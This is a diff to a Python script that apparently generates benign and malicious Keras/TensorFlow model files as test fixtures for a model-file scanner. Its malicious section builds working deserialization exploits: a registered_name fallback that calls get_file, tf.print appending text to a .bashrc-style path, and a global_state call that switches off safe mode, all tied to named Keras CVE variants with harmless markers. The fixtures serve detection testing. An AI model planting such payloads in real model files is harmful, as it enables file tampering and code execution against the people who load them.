@@ -493,6 +493,26 @@ def benign():
     add("benign/tf_ops_tf215.h5", "benign", "TFOpLambda math ops", "low", "",
         "tf.keras Functional model built with tf.math ops: TFOpLambda/SlicingOpLambda layers naming tf symbols (info only); no training_config")
 
+    # Serving model decoding base64 JPEG bytes in-graph: tf.io decode ops are pure tensor ops.
+    def tfop_layer(name, fn, inbound, kw):
+        return {"class_name": "TFOpLambda", "config": {"name": name, "trainable": True, "dtype": "float32",
+                                                       "function": fn}, "name": name,
+                "inbound_nodes": [[inbound, 0, 0, kw]]}
+    serve = {"class_name": "Functional", "config": {"name": "image_serving", "trainable": True, "layers": [
+        {"class_name": "InputLayer", "config": {"batch_input_shape": [], "dtype": "string", "sparse": False,
+                                                "ragged": False, "name": "image_b64"}, "name": "image_b64",
+         "inbound_nodes": []},
+        tfop_layer("tf.io.decode_base64", "io.decode_base64", "image_b64", {"name": None}),
+        tfop_layer("tf.io.decode_jpeg", "io.decode_jpeg", "tf.io.decode_base64", {"channels": 3, "name": None}),
+        tfop_layer("tf.image.resize", "image.resize", "tf.io.decode_jpeg", {"size": [224, 224], "name": None}),
+        tfop_layer("tf.io.decode_raw", "io.decode_raw", "tf.image.resize", {"out_type": "uint8", "name": None}),
+    ], "input_layers": [["image_b64", 0, 0]], "output_layers": [["tf.io.decode_raw", 0, 0]]}}
+    write_h5("benign/tfop_decode_image_tf215.h5", serve, None, [
+        ("image_b64", []), ("tf.io.decode_base64", []), ("tf.io.decode_jpeg", []), ("tf.image.resize", []),
+        ("tf.io.decode_raw", [])], 9)
+    add("benign/tfop_decode_image_tf215.h5", "benign", "TFOpLambda tf.io decode ops", "low", "",
+        "tf.keras serving model with tf.io.decode_base64/decode_jpeg/decode_raw TFOpLambda layers: tf.io decode ops touch no files (red-team FP)")
+
 
 # ---------------------------------------------------------------- malicious
 
@@ -677,6 +697,41 @@ def malicious():
     write_h5("malicious/tfoplambda_write_file_tf215.h5", tfw, None, [("x", []), ("tf.io.write_file", [])], 24)
     add("malicious/tfoplambda_write_file_tf215.h5", "malicious", "TFOpLambda tf.io.write_file", "high", "keras/tf-op",
         "tf.keras stores TensorFlow calls as TFOpLambda symbol names; tf.io.write_file writes /tmp/hallmark-marker whenever the model runs")
+
+    def functional_with(entry):
+        return k3_functional("functional", [
+            functional_entry(k3_input("inputs", [None, 4]), []), entry,
+            functional_entry(k3_dense("dense", 2, "linear", [None, 4]),
+                             [node(keras_tensor([None, 4], ["inputs", 0, 0]))])], [["inputs", 0, 0]], [["dense", 0, 0]])
+
+    # Keras 3.0-3.8: class_name missing from the module, so vars(mod).get(registered_name) -> get_file.
+    write_keras("malicious/registered_name_get_file.keras", functional_with(
+        {"module": "keras.src.utils", "class_name": "Dense", "config": {"name": "dense_0", "units": 2},
+         "registered_name": "get_file", "name": "dense_0", "inbound_nodes": [node(**{
+             "fname": "hallmark-marker.txt", "origin": "http://127.0.0.1:9/hallmark-marker.txt",
+             "cache_dir": "/tmp/hallmark-marker", "cache_subdir": "", "force_download": True})]}), small_w)
+    add("malicious/registered_name_get_file.keras", "malicious", "registered_name fallback to get_file", "critical",
+        "keras/get-file", "Keras 3.0-3.8 _retrieve_class_or_fn falls back to vars(module).get(registered_name) when class_name "
+        "(here Dense) is not in keras.src.utils, returning get_file, which Functional calls (CVE-2025-8747 variant)")
+
+    # tf.print with a file:// output_stream appends text to any file.
+    for rel, mod, fn in (("malicious/tf_print_file_append.keras", "tensorflow", "print"),
+                         ("malicious/logging_ops_print_v2_file.keras", "tensorflow.python.ops.logging_ops", "print_v2")):
+        write_keras(rel, functional_with(
+            {"module": mod, "class_name": "function", "config": fn, "registered_name": "function", "name": "print_0",
+             "inbound_nodes": [node("echo hallmark-marker", output_stream="file:///tmp/hallmark-marker/.bashrc")]}),
+            small_w)
+        add(rel, "malicious", "tf print to a file:// stream", "high", "keras/module-reference",
+            "a TensorFlow print function (" + mod + "." + fn + ") reached as a module reference and called by Functional "
+            "with output_stream file://...: appends chosen text to any file (Keras 3.0-3.8, tf_keras)")
+
+    # global_state.set_global_attribute("safe_mode_saving", False) == enable_unsafe_deserialization.
+    write_keras("malicious/global_state_safe_mode_off.keras", functional_with(
+        {"module": "keras.src.backend.common.global_state", "class_name": "function", "config": "set_global_attribute",
+         "registered_name": "function", "name": "gs_0", "inbound_nodes": [node("safe_mode_saving", False)]}), small_w)
+    add("malicious/global_state_safe_mode_off.keras", "malicious", "global_state safe_mode_saving off", "critical",
+        "keras/enable-unsafe-deserialization", "keras.src.backend.common.global_state.set_global_attribute('safe_mode_saving', False) "
+        "switches safe_mode off like enable_unsafe_deserialization (CVE-2025-9906 variant, Keras 3.0-3.10)")
 
 
 def main():
